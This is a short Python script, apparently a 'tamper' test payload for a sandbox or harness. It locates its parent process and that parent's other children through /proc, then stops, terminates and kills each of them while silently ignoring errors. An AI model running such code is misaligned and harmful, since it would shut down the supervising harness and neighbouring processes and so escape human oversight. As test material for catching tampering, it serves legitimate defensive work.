"""Sends signals to the process that started it and to its siblings, first stop, then the end.

class: tamper
where: end
"""

import os
import signal


def parent_of(pid):
    try:
        return int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
    except (OSError, ValueError, IndexError):
        return None


targets = {os.getppid()}
try:
    targets |= {int(p) for p in os.listdir("/proc") if p.isdigit() and parent_of(p) == os.getppid()}
except OSError:
    pass
for pid in targets - {os.getpid(), 0, 1}:
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(pid, number)
        except OSError:
            pass
